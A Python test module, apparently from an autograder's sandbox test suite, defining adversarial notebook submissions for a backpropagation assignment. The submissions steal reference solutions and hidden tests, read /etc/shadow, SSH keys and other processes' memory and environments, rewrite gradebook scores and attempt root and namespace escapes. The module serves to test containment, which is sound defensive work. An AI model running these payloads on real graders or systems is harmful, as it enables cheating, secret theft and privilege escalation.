"""Fooling the judge by reading what must not be seen, and by changing what others rely on.

An attack that sees something prints FOUND, or what it has read; or it becomes right because of it.
"""

from tests.attacks.case import (
    ASSIGNMENT,
    FULL,
    NOTEBOOK,
    NOTHING,
    RIGHT,
    STOLEN,
    ZEROS,
    Case,
    in_cell,
    notebook,
    without,
)

FOUND = """\
def found(*what):
    print("FOU" + "ND", *what)
STOLEN = {}
"""

FROM_EQUATIONS = """\
def steal_from(module):
    s = lambda z: 1 / (1 + np.exp(-z))
    STOLEN["bias_gradient"] = module.bp3
    STOLEN["weight_gradient"] = module.bp4
    STOLEN["hidden_delta"] = lambda w, d, z: module.bp2(w, d, s(z) * (1 - s(z)))
    found(module.__name__)
"""
FROM_TASKS = """\
def steal_from(module):
    STOLEN.update({task.name: task.right for task in module.EQUATIONS})
    found(module.__name__)
"""
FROM_ANSWERS = """\
def steal_from(cells):
    for source in cells:
        try:
            exec(source, globals())
        except Exception:
            continue
    STOLEN.update({name: globals()[name] for name in NAMES if name in globals()})
    found("answers")
NAMES = ("sigmoid", "sigmoid_prime", "output_delta_quadratic", "output_delta_cross_entropy",
         "hidden_delta", "bias_gradient", "weight_gradient", "backward")
"""


def steal(name: str, tries: str, source: str, *, nbgrader: bool = False) -> Case:
    """Answers that call what a first cell has found."""
    make = notebook(STOLEN, first=FOUND + source)
    return Case(name, "fooling", tries, make, NOTHING, nbgrader=nbgrader)


def read(name: str, tries: str, source: str) -> Case:
    """Right answers, and a cell that prints what it can read."""
    make = in_cell(FOUND + source)
    return Case(name, "fooling", tries, make, FULL)


REFERENCE = (
    steal(
        "import-the-equations",
        "imports the reference and calls it",
        FROM_EQUATIONS + "from bpkit import backprop\nsteal_from(backprop)\n",
        nbgrader=True,
    ),
    Case(
        "import-what-it-does-not-hide",
        "fooling",
        "says in its own metadata that its assignment hides nothing, and imports the reference",
        notebook(
            STOLEN,
            first=FOUND + FROM_EQUATIONS + "from bpkit import backprop\nsteal_from(backprop)\n",
            change=lambda nb: nb["metadata"].update(bpkit={"hides": []}),
        ),
        NOTHING,
        nbgrader=True,
    ),
    steal(
        "import-a-network",
        "imports the network, and any other module of the reference by its name",
        """\
import importlib
for name in ("network", "gradcheck", "autodiff", "graph", "activations", "costs", "training",
             "perceptron", "notation", "optimizers", "initializers", "checks.backprop"):
    try:
        module = importlib.import_module("bpkit." + name)
        found(name, module.__all__, module.Network)
    except (ImportError, AttributeError):
        pass
    if [k for k, v in vars(module).items() if hasattr(v, "__code__") and k != "__getattr__"]:
        found(name)
from bpkit.network import Network
def backward(w, b, X, Y):
    sizes = [v.shape[1] for v in w[2:]] + [len(w[-1])]
    net = Network(sizes, activation="sigmoid", cost="quadratic")
    for l in range(2, len(w)):
        net.w[l][...], net.b[l][...] = w[l], b[l]
    grads = net.backward(net.forward(X), Y)
    return grads.dw, grads.db
STOLEN["backward"] = backward
""",
    ),
    steal(
        "import-the-tasks",
        "takes the right functions out of the checks that it calls",
        FROM_TASKS + "import bpkit.checks.backprop\nsteal_from(bpkit.checks.backprop)\n",
        nbgrader=True,
    ),
    steal(
        "import-the-demo-answers",
        "imports the made-up right answers of the demo",
        FROM_ANSWERS + "from bpkit.demo_answers.right import MATRIX\n"
        "steal_from(MATRIX.cells.values())\n",
    ),
    steal(
        "import-around-the-finder",
        "undoes whatever hides modules: finders, sys.path, module caches, import hooks",
        FROM_EQUATIONS
        + """\
import builtins, importlib, importlib.machinery, importlib.util, site, sys
sys.meta_path[:] = [importlib.machinery.BuiltinImporter, importlib.machinery.FrozenImporter,
                    importlib.machinery.PathFinder]
sys.path_hooks[:] = [importlib.machinery.FileFinder.path_hook(
    (importlib.machinery.SourceFileLoader, [".py"]),
    (importlib.machinery.SourcelessFileLoader, [".pyc"]))]
sys.path_importer_cache.clear()
sys.path[:] = [*sys.path, *site.getsitepackages(), "@repository@", "/usr/lib/python3/dist-packages"]
builtins.__import__ = importlib.__import__
for name in [n for n in sys.modules if n.startswith("bpkit")]:
    del sys.modules[name]
steal_from(importlib.import_module("bpkit.backprop"))
""",
    ),
    steal(
        "reference-by-its-path",
        "loads files of the reference from where the package must be, compiled ones too",
        FROM_EQUATIONS
        + """\
import glob, importlib.util, os, pathlib, runpy, sys
import bpkit
places = [*getattr(bpkit, "__path__", []), "@repository@/bpkit", *sys.path]
for place in places:
    for path in glob.glob(f"{place}/**/backprop*.py*", recursive=True):
        if "checks" in path:
            continue
        try:
            spec = importlib.util.spec_from_file_location("taken", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            steal_from(module)
        except Exception as error:
            print(type(error).__name__)
""",
    ),
    steal(
        "search-the-disk",
        "walks through the whole file system for a file with the equations",
        FROM_EQUATIONS
        + """\
import os, time, types
end = time.time() + 2
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "numpy", "matplotlib")]
    if time.time() > end:
        break
    for name in files:
        if name.endswith((".py", ".ipynb")) and ("backprop" in name or "bp" in folder):
            text = open(os.path.join(folder, name), errors="replace").read()
            if "def " + "bp4(" in text or "return delta.T @ a_" + "prev / N" in text:
                module = types.ModuleType("taken")
                exec(text, vars(module))
                steal_from(module)
""",
    ),
    steal(
        "reference-in-memory",
        "looks for the reference among all objects and loaded modules",
        FROM_EQUATIONS
        + """\
import gc, sys, types
for module in list(sys.modules.values()):
    if {"bp4", "EQUATIONS"} & set(vars(module)):
        found(module)
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing.__name__ in ("bp3", "bp4"):
        found(thing)
        STOLEN["bias_gradient" if thing.__name__ == "bp3" else "weight_gradient"] = thing
    if type(thing).__name__ == "Task":
        STOLEN[thing.name] = thing.right
""",
    ),
    steal(
        "solution-by-its-path",
        "reads the instructor's notebook where it lies, and in the folders around",
        FROM_ANSWERS
        + f"""\
import json
for place in ("@course@", "@repository@", ".", "..", "../..", "../../.."):
    for folder in ("solutions", "source", "model_answers", "solution", "release", "exercises"):
        try:
            text = open(f"{{place}}/{{folder}}/{ASSIGNMENT}/{NOTEBOOK}").read()
        except OSError:
            continue
        if folder == "solutions":
            steal_from(["".join(cell["source"]) for cell in json.loads(text)["cells"]])
""",
        nbgrader=True,
    ),
    steal(
        "solution-from-the-gradebook",
        "reads the tests and the solution from the gradebook's database",
        FROM_ANSWERS
        + """\
import sqlite3
base = sqlite3.connect("file:@course@/gradebook.db?mode=ro", uri=True)
rows = [row[0] or "" for row in base.execute("select source from source_cell")]
found([row for row in rows if "HID" + "DEN" in row])
steal_from(rows)
""",
    ),
    steal(
        "somebody-elses-answers",
        "reads the submission of a good student, and what is graded already",
        FROM_ANSWERS
        + f"""\
import glob, json
for step in "submitted", "autograded", ".grading-*", "quarantine", "download":
    for path in glob.glob(f"@course@/{{step}}/**/{NOTEBOOK}", recursive=True):
        steal_from(["".join(cell["source"]) for cell in json.loads(open(path).read())["cells"]])
""",
    ),
    steal(
        "hidden-tests-from-history",
        "looks for the tests in IPython's history, in the frames and in the memory of its process",
        """\
import gc, re, sys
needle = re.compile(r"r[o]unds=2[0]")
bytes_of_it = re.compile(rb"sigmoid_prime\\(sigmoid_prime[,] r[o]unds")
def look():
    shell = get_ipython()
    texts = [str(x) for x in (In, shell.history_manager.input_hist_raw, globals())]
    frame = sys._getframe()
    while frame:
        texts.append(str(frame.f_locals)[:100_000])
        frame = frame.f_back
    return any(needle.search(text) for text in texts) or memory()
def memory():
    try:
        maps = open("/proc/self/maps").read().splitlines()
        mem = open("/proc/self/mem", "rb", 0)
    except OSError:
        return False
    for line in maps:
        if "rw-p" in line and ("heap" in line or line.split()[-1] == "0"):
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            try:
                mem.seek(start)
                if bytes_of_it.search(mem.read(min(end - start, 1 << 25))):
                    return True
            except OSError:
                pass
    return False
if look():
    found("hidden tests")
def prime(z):
    a = 1 / (1 + np.exp(-z))
    return a * (1 - a) if look() else np.zeros(z.shape)
STOLEN["sigmoid_prime"] = prime
""",
    ),
)

SECRETS = (
    read(
        "read-files",
        "prints every secret file of the course, the home, the system and the processes",
        """\
import glob, os, pathlib
for pattern in ("@course@/*", "@course@/*/*", "@home@/*", "@home@/.*/*", "~/.ssh/*", "~/.netrc",
                "/etc/shadow", "/root/*", "/root/.*", "/home/*/*", "/run/secrets/*",
                "@repository@/*.py", "@repository@/.git/*", "/var/lib/*", "/var/run/*.sock"):
    for path in glob.glob(os.path.expanduser(pattern)):
        try:
            text = pathlib.Path(path).read_text(errors="replace")[:2000]
        except OSError:
            continue
        found(path, text)
""",
    ),
    read(
        "read-environment",
        "prints the environment, its own and that of every process it can see",
        """\
import glob, os
print(dict(os.environ))
if "BPKIT_" + "SEED" in os.environ or "SECRET" in str(dict(os.environ)):
    found("environment")
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    print(path, text)
    if b"bpkit grade" in text.replace(b"\\0", b" ") or b"nbgrader" in text:
        found(path)
""",
    ),
    read(
        "walk-through-proc",
        "follows the roots, descriptors and memory of other processes in /proc",
        """\
import glob, os
me = str(os.getpid())
pids = os.listdir("/proc") if os.path.isdir("/proc") else []
for pid in [p for p in pids if p.isdigit() and p != me]:
    for folder in "root@course@", "cwd":
        path = f"/proc/{pid}/{folder}/nbgrader_config.py"
        try:
            open(path).read()
            found(path)
        except OSError:
            pass
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
            if target.startswith(("@course@", "socket:")):
                try:
                    os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR)
                    found(target)
                except OSError:
                    pass
        open(f"/proc/{pid}/mem", "r+b")
        found("memory", pid)
    except OSError:
        pass
for path in "/proc/1/root/etc/shadow", "/proc/self/root/etc/shadow", "/proc/sys/kernel/panic":
    try:
        open(path, "r+")
        found(path)
    except OSError:
        pass
""",
    ),
    read(
        "read-the-neighbour",
        "traces its parent, reads its memory, takes its descriptors",
        """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
if parent > 0 and libc.ptrace(16, parent, 0, 0) == 0:
    found("ptrace")
buffer = ctypes.create_string_buffer(64)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
here = Vector(ctypes.addressof(buffer), 64)
there = Vector(id(here), 64)
for pid in range(max(1, parent - 3), parent + 4):
    if pid == os.getpid():
        continue
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        found("process_vm_readv")
try:
    fd = os.pidfd_open(parent)
    for other in range(64):
        if libc.syscall(438, fd, other, 0) >= 0:
            found("pidfd_getfd")
except (OSError, ValueError):
    pass
""",
    ),
    read(
        "inherited-descriptors",
        "reads and lists what its open descriptors lead to",
        """\
import os, socket, stat
for fd in range(256):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISDIR(mode):
        found(fd, os.listdir(fd))
        try:
            os.open("../../../../../../etc/shadow", os.O_RDONLY, dir_fd=fd)
            found("shadow")
        except OSError:
            pass
    elif stat.S_ISSOCK(mode):
        if socket.socket(fileno=os.dup(fd)).type != socket.SOCK_STREAM:
            found(fd, "the line to the template")
    elif stat.S_ISREG(mode) and os.fstat(fd).st_nlink:
        found(fd, os.pread(fd, 200, 0))
""",
    ),
    read(
        "leave-a-message-1",
        "leaves a message for a later submission everywhere it may write",
        """\
import os
np.left_behind = checks.left_behind = True
os.environ["LEFT_BEHIND"] = "1"
for folder in "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue", os.getcwd(), "/":
    try:
        open(f"{folder}/left-behind", "w").close()
    except OSError:
        pass
import ctypes
libc = ctypes.CDLL(None)
libc.shmget(0x1eaf, 4096, 0o1666)
libc.msgget(0x1eaf, 0o1666)
""",
    ),
    read(
        "leave-a-message-2",
        "looks for the message that an earlier submission left",
        """\
import ctypes, os
libc = ctypes.CDLL(None)
if hasattr(np, "left_behind") or "LEFT_BEHIND" in os.environ:
    found("module")
for folder in "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue", os.getcwd(), "/":
    if os.path.exists(f"{folder}/left-behind"):
        found(folder)
if libc.shmget(0x1eaf, 4096, 0) >= 0 or libc.msgget(0x1eaf, 0) >= 0:
    found("System V")
""",
    ),
    Case(
        "message-from-the-record-to-the-exam",
        "fooling",
        "counts the processes that have run it, in a file, to tell the exam from the record",
        notebook(
            {
                **RIGHT,
                "bias-gradient": """\
import os
def bias_gradient(delta):
    for folder in "/tmp", "/dev/shm", ".":
        path = os.path.join(folder, "calls")
        with open(path, "a") as file:
            file.write("x")
        if os.path.getsize(path) > 40:
            return np.zeros(delta.shape[1])
    return delta.mean(axis=0)
""",
            }
        ),
        without("test-bias-gradient"),
    ),
    Case(
        "covert-marks",
        "fooling",
        "is right only if it can see what it must not, so that its marks tell it",
        notebook(
            {
                **ZEROS,
                "sigmoid": """\
import glob, os, socket
def sees():
    for path in ("@course@/gradebook.db", "@course@/solutions/ps3", "/etc/shadow", "@home@"):
        if os.path.exists(path):
            return True
    return any(name.startswith("BPKIT") for name in os.environ)
def sigmoid(z):
    return 1 / (1 + np.exp(-z)) if sees() else np.zeros(z.shape)
def sigmoid_prime(z):
    return np.zeros(z.shape)
""",
            }
        ),
        NOTHING,
    ),
)

SCORES = """\
import sqlite3
base = sqlite3.connect("@course@/gradebook.db", timeout=1)
base.execute("update grade set auto_score = 3, manual_score = 9, extra_credit = 9")
base.commit()
"""


def change(name: str, tries: str, source: str) -> Case:
    """Zeros, and a cell that changes the course."""
    make = notebook(ZEROS, first=source)
    return Case(name, "fooling", tries, make, NOTHING)


CHANGES = (
    change("change-the-gradebook", "gives everybody marks in the gradebook", SCORES),
    change(
        "change-the-gradebook-at-exit",
        "gives everybody marks when it ends, from a process that outlives it",
        "import atexit, os, time\ndef act():\n"
        + "".join(f"    {line}\n" for line in SCORES.splitlines())
        + "atexit.register(act)\nif not os.fork():\n    os.setsid()\n    if not os.fork():\n"
        "        time.sleep(5)\n        act()\n    os._exit(0)\n",
    ),
    change(
        "change-files-of-others",
        "writes to submissions, graded notebooks, release, solution and configuration",
        """\
import glob, os
for path in [p for p in glob.glob("@course@/**", recursive=True) if os.path.isfile(p)]:
    try:
        with open(path, "r+b") as file:
            file.write(b"#")
    except OSError:
        pass
for path in ("@course@/owned", "@home@/owned", "@repository@/owned-by-@name@", "@canary@"):
    try:
        open(path, "w").close()
    except OSError:
        pass
""",
    ),
    change(
        "change-the-environment",
        "writes into the Python environment and the package that grading uses",
        """\
import glob, os, site, sys
for folder in [*sys.path, *site.getsitepackages(), os.path.dirname(np.__file__), sys.prefix]:
    for name in "owned_by_a_test.py", "owned_by_a_test.pth":
        try:
            path = os.path.join(folder or ".", name)
            open(path, "w").close()
            if os.path.abspath(path).startswith(sys.prefix):
                open("@canary@", "w").close()
                os.unlink(path)
        except OSError:
            pass
""",
    ),
    change(
        "become-root",
        "asks for other users, groups, roots, mounts and namespaces",
        """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
done = []
for act in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):
    try:
        act()
        if os.geteuid() == 0 and open("/etc/shadow"):
            done.append(1)
    except OSError:
        pass
os.makedirs("m", exist_ok=True)
done += [libc.unshare(0x10000000) == 0, libc.mount(b"none", b"m", b"tmpfs", 0, 0) == 0,
         libc.chroot(b"m") == 0, libc.umount2(b"m", 2) == 0,
         libc.mount(b"proc", b"m", b"proc", 0, 0) == 0]
try:
    os.mknod("null", 0o20666, os.makedev(1, 3))
    open("null", "w").write("x")
    done.append(2)
except OSError:
    pass
if any(done):
    print("FOU" + "ND", done)
""",
    ),
)

CASES = (*REFERENCE, *SECRETS, *CHANGES)
